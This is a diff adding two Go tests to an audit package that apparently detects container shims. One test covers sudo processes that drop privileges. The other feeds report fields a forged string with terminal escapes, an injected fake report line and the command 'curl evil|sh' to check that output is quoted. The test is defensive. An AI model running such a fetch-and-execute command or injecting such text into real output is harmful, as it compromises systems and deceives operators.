@@ -2,6 +2,7 @@ package audit
 
 import (
 	"encoding/json"
+	"errors"
 	"os"
 	"path/filepath"
 	"strings"
@@ -76,6 +77,53 @@ func TestAReadThatHangs(t *testing.T) {
 	<-earlier
 	if err := hung.begin(at); err != nil {
 		t.Errorf("it has come back: %v", err)
+	}
+}
+
+// A child of sudo is root's at first, and then a user's. A command line that it has as a
+// user makes it no shim.
+func TestAProcessThatDropsPrivileges(t *testing.T) {
+	dir := fakeProc(t)
+	at := filepath.Join(dir, "41")
+	if err := unix.Mkfifo(filepath.Join(at, "cmdline"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan *processTable)
+	go func() {
+		table, err := readProcesses(t.Context(), Options{Proc: dir, hangs: time.Minute}.withDefaults())
+		if err != nil {
+			t.Error(err)
+		}
+		done <- table
+	}()
+	f, err := os.OpenFile(filepath.Join(at, "cmdline"), os.O_WRONLY, 0) // waits for the reader
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = os.WriteFile(filepath.Join(at, "status"), []byte("Uid:\t1000\t0\t0\t0\n"), 0o644)
+	if err == nil {
+		_, err = f.WriteString("w\x00-namespace\x00prod\x00-id\x007")
+	}
+	if err := errors.Join(err, f.Close()); err != nil {
+		t.Fatal(err)
+	}
+	if p := (<-done).byPID[41]; p == nil || p.Shim != nil || p.notRoots != "uid 1000" {
+		t.Errorf("%+v", p)
+	}
+}
+
+// Text of another program is quoted in every line.
+func TestTextIsQuoted(t *testing.T) {
+	const forged = "x\x1b[2J\r\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"
+	r := &Report{
+		Node: forged, Partial: []string{forged}, Untrusted: []Untrusted{{1, forged}},
+		Daemons: []Daemon{{Address: forged, Version: forged}},
+		Suspects: []Suspect{{Kind: Forgotten, Sure: Likely, ID: forged, Namespace: forged, Path: forged, View: forged,
+			Missing: []string{forged}, With: []string{forged}, Bugs: []string{forged}, Do: forged}},
+	}
+	text := r.String()
+	if strings.ContainsAny(text, "\x1b\r") || strings.Count(text, "\n") != 8 || strings.Contains(text, "\ncertain") {
+		t.Errorf("%q", text)
 	}
 }
 
